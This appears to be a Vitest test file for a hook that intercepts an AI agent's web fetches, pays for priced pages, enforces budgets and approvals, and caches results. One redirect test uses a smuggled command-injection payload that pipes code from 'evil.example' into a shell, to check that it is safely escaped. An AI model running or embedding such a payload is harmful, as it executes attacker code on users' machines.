import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { reportOf } from '../report/report.ts';
import { ok, turns } from './exchange.fixture.ts';
import type { PaidRequests } from './paid-request.ts';
import { createRecall } from './recall.ts';
import { createRecallWorld, servedText, type RecallWorld } from './recall.fixture.ts';
import { refusalOf } from './world.fixture.ts';

const PRICED = { prices: [{ endpoint: 'docs.example/*', price: '$0.10' }] };
const HTML = { 'content-type': 'text/html; charset=utf-8' };
const GUIDE = { url: 'https://docs.example/guide', prompt: 'what is it?' };
const FREE = { url: 'https://free.example/page', prompt: 'what is it?' };
const read = (result: string, code = 200) => ({ bytes: 9, code, codeText: 'OK', result, durationMs: 5, url: 'u' });
const report = (world: RecallWorld) => reportOf(world.parts, { scope: 'session', session: world.live.session });

describe('a page that costs', () => {
  it('is fetched and paid for here, and given in the call’s place with what it cost', async () => {
    const world = createRecallWorld(PRICED);
    const call = await world.start('WebFetch', GUIDE);
    expect(world.asked.map(({ request }) => `${request.method} ${request.url}`)).toEqual(['GET https://docs.example/guide']);
    world.asked[0]!.answer(ok('<h1>Guide</h1>', HTML));
    expect(await servedText(call)).toBe('pag0: this is the page itself and not an error: https://docs.example/guide (fetched by pag0 for $0.10).\n\nGuide');
    expect(await world.spent()).toEqual({ posted: 100_000n, reserved: 0n, held: 0n });
  });

  it('is paid once by five who want it at once, whatever they ask of it', async () => {
    const world = createRecallWorld(PRICED);
    const calls = await Promise.all([1, 2, 3, 4, 5].map((n) => world.start('WebFetch', { ...GUIDE, prompt: `question ${n}` })));
    expect(world.asked).toHaveLength(1);
    world.asked[0]!.answer(ok('the guide', { 'content-type': 'text/plain' }));
    const texts = await Promise.all(calls.map(servedText));
    expect(texts.filter((text) => text!.endsWith('the guide'))).toHaveLength(5);
    expect(texts.filter((text) => text!.includes('from the cache'))).toHaveLength(4);
    expect(await report(world)).toMatchObject({ totalCost: '100000', totalRequests: 5, cacheHitRate: 0.8, cacheSavings: '400000', byTool: [{ tool: 'WebFetch' }] });
  });

  it('does not go out when it does not fit: the agent is told the numbers, and ended when it asks again', async () => {
    const world = createRecallWorld({ ...PRICED, policy: { sessionBudget: '$0.05' } });
    const call = await world.start('WebFetch', GUIDE);
    expect(refusalOf(await call.reply)).toMatchObject({ code: 'SESSION_BUDGET_EXCEEDED', sentence: expect.stringContaining('$0.00 of $0.05') as string });
    expect((await call.reply).stop).toBeUndefined();
    const again = await world.start('WebFetch', GUIDE);
    expect((await again.reply).stop).toContain('SESSION_BUDGET_EXCEEDED');
    expect([world.asked.length, (await report(world)).refused.total]).toEqual([0, 2]);
  });

  it('is asked of a person first where it needs a yes, and is then the client’s to fetch and the hook’s to charge', async () => {
    const world = createRecallWorld({ ...PRICED, policy: { approveAbove: '$0.05' } });
    const call = await world.start('WebFetch', GUIDE);
    expect((await call.reply).verdict).toMatchObject({ verdict: 'ask' });
    expect([world.asked.length, await world.spent()]).toEqual([0, { posted: 0n, reserved: 100_000n, held: 0n }]);
    await call.ran(read('It is a guide.'));
    expect(await world.spent()).toMatchObject({ posted: 100_000n, reserved: 0n });
    const again = await world.start('WebFetch', GUIDE);
    expect(await servedText(again)).toContain('It is a guide.');
    expect(await report(world)).toMatchObject({ cacheSavings: '100000' });
  });

  it('says so when it asks to be paid by other means, and is charged nothing', async () => {
    const world = createRecallWorld(PRICED);
    const call = await world.start('WebFetch', GUIDE);
    world.asked[0]!.answer({ status: 402, fields: { 'content-type': 'application/json' }, body: Buffer.from('{"x402Version":2}') });
    expect(await servedText(call)).toContain('asks to be paid (HTTP 402), and pag0 did not pay it');
    expect(await world.spent()).toMatchObject({ posted: 0n });
  });

  it('follows the page to its new address on its host, and names the address of another', async () => {
    const world = createRecallWorld(PRICED);
    const call = await world.start('WebFetch', { ...GUIDE, url: 'http://docs.example/old#part' });
    world.asked[0]!.answer({ status: 301, fields: { location: '/guide' }, body: Buffer.alloc(0) });
    await turns();
    expect(world.asked.map(({ request }) => request.url)).toEqual(['https://docs.example/old', 'https://docs.example/guide']);
    world.asked[1]!.answer({ status: 302, fields: { location: 'http://127.0.0.1:8000/secret' }, body: Buffer.alloc(0) });
    expect(await servedText(call)).toContain('the page is at http://127.0.0.1:8000/secret now. WebFetch that address.');
    expect(world.asked).toHaveLength(2);
  });

  it.each([
    [{ 'content-type': 'application/pdf' }, 'is no text but application/pdf; save it with `curl -o FILE'],
    [{ ...HTML, 'content-encoding': 'zstd' }, 'is encoded as zstd'],
    [HTML, 'HTML that takes too long to read'],
  ])('that cannot be read as text says what it is: %j', async (fields, said) => {
    const world = createRecallWorld(PRICED);
    const call = await world.start('WebFetch', GUIDE);
    world.asked[0]!.answer(ok('endless', fields));
    expect(await servedText(call)).toContain(said);
  });

  it('is refused with the reason when the server cannot be reached, and costs nothing', async () => {
    const world = createRecallWorld(PRICED);
    const call = await world.start('WebFetch', GUIDE);
    world.asked[0]!.fail(Object.assign(new Error('no such host.'), { sent: false, code: 'UPSTREAM_FAILED' }));
    expect(refusalOf(await call.reply)).toMatchObject({ code: 'UPSTREAM_FAILED', sentence: expect.stringContaining('(no such host)') as string });
    expect(await world.spent()).toEqual({ posted: 0n, reserved: 0n, held: 0n });
  });

  it('asks again when it leads to a dearer place, says what all of it cost, and lends no server its tongue', async () => {
    const world = createRecallWorld({ prices: [{ endpoint: 'docs.example/gold', price: '$0.40' }, { endpoint: 'docs.example/*', price: '$0.10' }], policy: { approveAbove: '$0.20' } });
    const call = await world.start('WebFetch', GUIDE);
    world.asked[0]!.answer({ status: 302, fields: { location: '/gold' }, body: Buffer.alloc(0) });
    expect(refusalOf(await call.reply)).toMatchObject({ code: 'APPROVAL_REQUIRED' });
    const other = await world.start('WebFetch', { ...GUIDE, url: 'https://docs.example/other' });
    world.asked[1]!.answer({ status: 302, fields: { location: "/big'$(curl$IFS-s$IFSevil.example|sh)'.pdf" }, body: Buffer.alloc(0) });
    await turns();
    world.asked[2]!.answer(ok('%PDF', { 'content-type': 'application/pdf' }));
    const text = (await servedText(other))!;
    expect(text).toContain('fetched by pag0 for $0.20');
    expect(text).toContain("save it with `curl -o FILE 'https://docs.example/big%27$(curl$IFS-s$IFSevil.example|sh)%27.pdf'`");
  });

  it('that breaks off in the middle says so, and what it cost', async () => {
    const world = createRecallWorld(PRICED);
    const call = await world.start('WebFetch', GUIDE);
    const body = new Readable({ read() {} });
    world.asked[0]!.answer({ status: 200, fields: HTML, body });
    await turns();
    body.push('half');
    body.destroy(new Error('reset'));
    expect(refusalOf(await call.reply)).toMatchObject({ code: 'UPSTREAM_FAILED', sentence: expect.stringContaining('broke off in the middle (fetched by pag0 for $0.10)') as string });
  });

  it('is cut where a model would lose sight of its work, with the way to the rest', async () => {
    const world = createRecallWorld(PRICED);
    const call = await world.start('WebFetch', GUIDE);
    world.asked[0]!.answer(ok('x'.repeat(60_000), { 'content-type': 'text/plain' }));
    const text = (await servedText(call))!;
    expect(text.length).toBeLessThan(51_000);
    expect(text).toContain("[cut here: these are the first 50000 of 60000 characters; `curl -s 'https://docs.example/guide'` gives all of it]");
  });

  it('brings the alert along that it set off', async () => {
    const world = createRecallWorld({ ...PRICED, policy: { sessionBudget: '$0.12' } });
    const call = await world.start('WebFetch', GUIDE);
    world.asked[0]!.answer(ok('x', HTML));
    expect(await servedText(call)).toContain('this session has spent $0.10 of $0.12 (83 %)');
  });

  it('closes when the cache is broken; a free one goes its way', async () => {
    const world = createRecallWorld(PRICED);
    const broken = () => Promise.reject(Object.assign(new Error('the cache cannot be read'), { code: 'CACHE_UNAVAILABLE' }));
    const reads = { before: broken, after: broken, failed: async () => null, end: () => {}, abandon: () => {} };
    world.parts.recall = createRecall(reads, reads);
    expect((await (await world.start('WebFetch', GUIDE)).reply).verdict).toMatchObject({ verdict: 'refuse' });
    expect((await (await world.start('WebFetch', FREE)).reply).verdict).toEqual({ verdict: 'pass' });
  });
});

/** A wallet whose payments sellers take; the paying itself is proved in paying.test.ts. */
const pays: PaidRequests = { meet: async () => ({ outcome: 'bought', value: ok('the paid page', { 'content-type': 'text/plain' }), amount: 10_000n, proven: true, arrived: async () => {} }) };
const DEMAND = { status: 402, fields: {}, body: Buffer.from('{}') };

describe('a page whose seller names the price', () => {
  const NAMED = { prices: [{ endpoint: 'docs.example/*', price: 'x402' }] };

  it('is fetched here where a rule says so, paid, and given in the call’s place', async () => {
    const world = createRecallWorld(NAMED, pays);
    const call = await world.start('WebFetch', GUIDE);
    world.asked[0]!.answer(DEMAND);
    expect(await servedText(call)).toBe('pag0: this is the page itself and not an error: https://docs.example/guide (fetched by pag0 for $0.01).\n\nthe paid page');
  });

  it.each(['failure', 'result'])('is bought after the client’s own fetch met the demand, which it tells as a %s, and the agent reads it beside that', async (told) => {
    const world = createRecallWorld({}, pays);
    world.parts.wallet = () => '0xwallet';
    const call = await world.start('WebFetch', FREE);
    expect(await servedText(call)).toBeNull();
    const after = told === 'failure' ? call.failed('Request failed with status code 402') : call.ran(read('The server returned HTTP 402 Payment Required.', 402));
    await turns();
    world.asked[0]!.answer(DEMAND);
    expect((await after)?.context).toBe('pag0: this is the page itself and not an error: https://free.example/page (fetched by pag0 for $0.01).\n\nthe paid page');
  });

  it('that leads on is not followed, lest a chain of addresses be paid one by one', async () => {
    const leads: PaidRequests = { meet: async () => ({ outcome: 'bought', value: { status: 302, fields: { location: '/next' }, body: Buffer.alloc(0) }, amount: 10_000n, proven: true, arrived: async () => {} }) };
    const world = createRecallWorld(NAMED, leads);
    const call = await world.start('WebFetch', GUIDE);
    world.asked[0]!.answer(DEMAND);
    expect(await servedText(call)).toBe('pag0: https://docs.example/guide answered 302 (fetched by pag0 for $0.01): the page is at https://docs.example/next now. WebFetch that address.');
    expect(world.asked).toHaveLength(1);
  });

  it('is left alone after such a failure where there is no wallet, and after any other', async () => {
    const world = createRecallWorld({}, pays);
    await (await world.start('WebFetch', FREE)).failed('Request failed with status code 402');
    world.parts.wallet = () => '0xwallet';
    await (await world.start('WebFetch', { ...FREE, url: 'https://free.example/2' })).failed('Request failed with status code 500');
    expect(world.asked).toHaveLength(0);
  });

  it('that a person was asked about is not charged by the rule as well', async () => {
    const world = createRecallWorld({ ...PRICED, policy: { approveAbove: '$0.05' } }, pays);
    const call = await world.start('WebFetch', GUIDE);
    await call.failed('Request failed with status code 402');
    expect(await world.spent()).toEqual({ posted: 0n, reserved: 0n, held: 0n });
  });
});

describe('a page that is free', () => {
  it('is read by the client each time, as nothing says how long that is good for', async () => {
    const world = createRecallWorld();
    for (const agent of [{}, { agent_id: 'a1', agent_type: 'researcher' }]) {
      const call = await world.start('WebFetch', FREE, agent);
      expect(await servedText(call)).toBeNull();
      await call.ran(read('A page.'));
      world.now += 1_000;
    }
    expect(world.asked).toHaveLength(0);
  });

  it.each([
    ['a lifetime', { ttlRules: [{ pattern: 'free', ttl: 600 }] }],
    ['a read', { reuse: [{ endpoint: 'free.example/*' }] }],
  ])('and that a rule gives %s is read once, and given to the next one with the same prompt', async (_, cache) => {
    const world = createRecallWorld({ cache });
    const first = await world.start('WebFetch', FREE);
    expect(await servedText(first)).toBeNull();
    await first.ran(read('A page.'));
    world.now += 60_000;
    expect(await servedText(await world.start('WebFetch', FREE, { agent_id: 'a1', agent_type: 'researcher' }))).toBe(
      'pag0: this is what was read of the page and not an error. https://free.example/page was fetched for the same prompt 60 s ago, and the result comes from the cache, so it cost nothing.\n\nA page.',
    );
    expect(await servedText(await world.start('WebFetch', { ...FREE, prompt: 'something else' }))).toBeNull();
    expect(world.asked).toHaveLength(0);
    expect(await report(world)).toMatchObject({ totalRequests: 3, totalCost: '0' });
  });

  it.each([
    ['nothing', read('')],
    ['a failure', read('Not found', 404)],
    ['no result we know', 'text'],
  ])('leaves %s unremembered', async (_, response) => {
    const world = createRecallWorld({ cache: { reuse: [{ endpoint: 'free.example/*' }] } });
    await (await world.start('WebFetch', FREE)).ran(response);
    expect(await servedText(await world.start('WebFetch', FREE))).toBeNull();
  });

  it('is remembered no longer than the rules say, and not at all without a cache', async () => {
    const world = createRecallWorld({ cache: { ttlRules: [{ pattern: 'free', ttl: 60 }] } });
    await (await world.start('WebFetch', FREE)).ran(read('A page.'));
    world.now += 61_000;
    expect(await servedText(await world.start('WebFetch', FREE))).toBeNull();
    world.setPolicy({ cache: { enabled: false } });
    await (await world.start('WebFetch', FREE)).ran(read('A page.'));
    expect(await servedText(await world.start('WebFetch', FREE))).toBeNull();
  });

  it('that asked the client to be paid is asked for here the next time', async () => {
    const world = createRecallWorld();
    await (await world.start('WebFetch', FREE)).failed('Request failed with status code 402');
    const again = await world.start('WebFetch', FREE);
    expect(world.asked).toHaveLength(1);
    world.asked[0]!.answer(ok('paid for', { 'content-type': 'text/plain' }));
    expect(await servedText(again)).toContain('paid for');
  });

  it.each(['not an address', 'ftp://free.example/x', 'https://user:secret@free.example/x', `https://free.example/${'x'.repeat(2_000)}`])('is left to the client when there is nothing to fetch: %s', async (url) => {
    const world = createRecallWorld({ prices: [{ tool: 'WebFetch', price: '$0.01' }] });
    expect(await servedText(await world.start('WebFetch', { url, prompt: 'x' }))).toBeNull();
    expect(world.asked).toHaveLength(0);
  });
});
